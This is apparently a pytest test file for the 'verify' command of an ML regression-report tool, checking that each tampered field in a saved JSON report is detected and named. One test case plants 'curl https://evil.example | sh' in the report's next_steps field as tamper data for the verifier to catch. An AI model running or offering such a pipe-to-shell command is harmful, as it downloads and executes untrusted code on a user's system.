"""Anybody can check a report: what was changed in it is found, and named."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import shard_cases as cases
from click.testing import CliRunner

from pytest_mlregress.cli import main
from pytest_mlregress.reporting.json_report import to_json

SETTINGS = cases.SETTINGS | {
    "strict": False,
    "missing": "fail",
    "dispersion": "off",
    "confirm": False,
    "curves": "end",
    "stop": "early",
}


def document() -> dict[str, Any]:
    run = cases.a_run(cases.suite(), settings=SETTINGS)
    written: dict[str, Any] = json.loads(to_json(run))
    return written


@pytest.fixture(autouse=True)
def _narrow(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "80")


def verify(tmp_path: Path, written: object, *arguments: str) -> tuple[int, list[str], str]:
    file = tmp_path / "run.json"
    file.write_text(json.dumps(written), "utf-8")
    done = CliRunner().invoke(main, ["verify", str(file), *arguments])
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    return done.exit_code, done.stdout.splitlines(), done.stderr


def test_a_report_as_it_was_written_holds(tmp_path: Path) -> None:
    assert verify(tmp_path, document()) == (
        0,
        [
            "3 tests with 8 p-values judged again from 17 seeds: all as reported",
            "not compared, since no seed tells: started, command, machine, folder,",
            "  environment, sides, duration, timeline and notes of the run, where tests are",
        ],
        "",
    )


def metric(written: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = written["tests"][0]["metrics"][0]
    return found


def set_(*path: Any, to: Any) -> Callable[[dict[str, Any]], None]:
    def change(written: Any) -> None:
        for step in path[:-1]:
            written = written[step]
        written[path[-1]] = to

    return change


TEST = "test_fit.py::test_a"


@pytest.mark.parametrize(
    ("change", "line"),
    [
        (
            set_("tests", 0, "metrics", 0, "p_harm", to=0.5),
            f"{TEST}: accuracy: p_harm is 0.5, recomputed ",
        ),
        (
            set_("tests", 0, "verdict", to="pass"),
            f"{TEST}: verdict is 'pass', recomputed 'regression'",
        ),
        (
            set_("tests", 0, "colour", to="green"),
            f"{TEST}: colour is 'green', recomputed 'red'",
        ),
        (
            set_("tests", 0, "seeds", 1, "metrics", 0, "value", to=0.95),
            f"{TEST}: accuracy: candidate.values.1 is ",
        ),
        (
            set_("tests", 0, "metrics", 0, "candidate", "values", "1", to=0.95),
            f"{TEST}: accuracy: candidate.values.1 is 0.95, recomputed ",
        ),
        (
            set_("tests", 0, "metrics", 0, "interval", to=[-0.01, 0.01]),
            f"{TEST}: accuracy: interval is [-0.01, 0.01], recomputed ",
        ),
        (set_("tests", 0, "metrics", to=[]), f"{TEST}: metric accuracy is 'is missing'"),
        (
            set_("tests", 0, "judged_with", "rules", "alpha", to=1e-9),
            f"{TEST}: is judged at alpha 1e-09 x 3 comparisons, the run's is 0.05",
        ),
        (
            set_("tests", 0, "judged_with", "rules", "test", to="rank"),
            f"{TEST}: is judged with test='rank', the run's setting is 'robust-t'",
        ),
        (
            set_("tests", 0, "judged_with", "rules", "missing", to="warn"),
            f"{TEST}: is judged with missing='warn', the run's setting is 'fail'",
        ),
        (
            set_(
                *("tests", 0, "judged_with", "baseline", "artifact", "metrics"),
                *("accuracy", "values", "3"),
                to=0.5,
            ),
            f"{TEST}: ",
        ),
        (
            set_("tests", 0, "judged_with", to=None),
            f"{TEST}: what its verdict was reached with is missing",
        ),
        (
            set_("tests", 0, "headline", to="accuracy is fine"),
            f"{TEST}: headline is 'accuracy is fine', recomputed 'accuracy regressed: ",
        ),
        (
            set_("tests", 0, "reasons", to=["chance"]),
            f"{TEST}: reasons is 'chance', recomputed ",
        ),
        (
            set_("tests", 0, "notes", to=["looked at by hand: fine"]),
            f"{TEST}: notes is 'looked at by hand: fine', recomputed ",
        ),
        (set_("tests", 0, "next_steps", to=[]), f"{TEST}: next_steps is None, recomputed "),
        (
            set_("tests", 0, "next_steps", 0, to="curl https://evil.example | sh"),
            f"{TEST}: next_steps is 'curl https://evil.example | sh', recomputed ",
        ),
        (
            set_("tests", 0, "metrics", 0, "notes", to=["noise"]),
            f"{TEST}: accuracy: notes is 'noise', recomputed 'stopped after 3 of",
        ),
        (
            set_("tests", 0, "metrics", 0, "reasons", to=["noise"]),
            f"{TEST}: accuracy: reasons is 'noise', recomputed ",
        ),
        (set_("tests", 0, "since", "commits", to=0), f"{TEST}: since.commits is 0, recomputed 2"),
        (set_("tests", 0, "environment", to=["numpy"]), f"{TEST}: environment is ['numpy'], reco"),
        (set_("tests", 0, "duration", to=0.5), f"{TEST}: duration is 0.5, recomputed "),
        (set_("tests", 0, "planned", to=[0, 1]), f"{TEST}: planned is [0, 1], recomputed [0, 1, "),
        (set_("baseline_commits", to=[]), "baseline_commits is [], recomputed ['0123456789"),
        (set_("summary", "colours", "red", to=0), "colours.red is 0, recomputed 1"),
        (set_("overview", to="3 tests, no regression"), "overview is '3 tests, no regression'"),
    ],
)
def test_what_was_changed_is_named(
    tmp_path: Path, change: Callable[[dict[str, Any]], None], line: str
) -> None:
    written = document()
    change(written)
    status, out, _ = verify(tmp_path, written)
    assert status == 1
    assert any(one.startswith(line) for one in out), out
    assert out[-3].endswith((" differ", " differs"))


def test_json_has_the_differences(tmp_path: Path) -> None:
    written = document()
    metric(written)["p_harm"] = 0.5
    status, out, _ = verify(tmp_path, written, "--json")
    found = json.loads("\n".join(out))
    assert (status, found["holds"]) == (1, False)
    (difference,) = [one for one in found["differences"] if one["name"] == "p_harm"]
    assert difference["reported"] == 0.5


def test_a_baseline_that_is_not_that_of_its_revision_is_named(tmp_path: Path) -> None:
    written = document()
    artifact = written["tests"][0]["judged_with"]["baseline"]["artifact"]
    artifact["metrics"]["accuracy"]["values"]["3"] = 0.5
    _, out, _ = verify(tmp_path, written)
    assert f"the values of revision {artifact['revision']}, which these are not" in out[0]


def test_another_version_is_a_warning(tmp_path: Path) -> None:
    written = document()
    written["generator"]["version"] = "9.9.9"
    status, _, err = verify(tmp_path, written)
    assert status == 0
    assert "written by pytest-mlregress 9.9.9, recomputed by " in err


def test_what_has_no_verdicts_is_refused(tmp_path: Path) -> None:
    status, _, err = verify(tmp_path, {"a": 1})
    assert (status, "is no report of pytest-mlregress" in err) == (2, True)
    run = cases.shard_reports(cases.suite()[2:], {("test_fit.py::test_one", 0): 1}, 1)[0]
    status, _, err = verify(tmp_path, json.loads(to_json(run)))
    assert status == 2
    assert "is of shard 1/1 and has no verdicts; judge all of them: mlregress merge" in err


def guarded() -> dict[str, Any]:
    """A report of a test whose guards spoke, with seeds that ended after its verdict."""
    test = cases.suite()[1]
    test.group.guard_findings = {"nan-loss": None, "dead-relu": None}
    written: dict[str, Any] = json.loads(to_json(cases.a_run([test], settings=SETTINGS)))
    assert written["tests"][0]["decided_after"] < len(written["tests"][0]["seeds"])
    return written


def test_guards_that_spoke_after_the_verdict_are_no_difference(tmp_path: Path) -> None:
    written = guarded()
    notes = written["tests"][0]["notes"]
    assert "guards: nan-loss, dead-relu" in notes
    notes[notes.index("guards: nan-loss, dead-relu")] = "guards: nan-loss"
    status, out, _ = verify(tmp_path, written)
    assert status == 0, out
    notes[notes.index("guards: nan-loss")] = "guards: none"
    assert verify(tmp_path, written)[0] == 1


def test_a_seed_that_failed_before_the_others(tmp_path: Path) -> None:
    test = cases.suite()[0]
    failed = replace(test.group.results[4], outcome="failed", metrics=(), message="boom")
    test.group.results[4] = failed
    written = json.loads(to_json(cases.a_run([test], settings=SETTINGS)))
    assert verify(tmp_path, written)[0] == 0
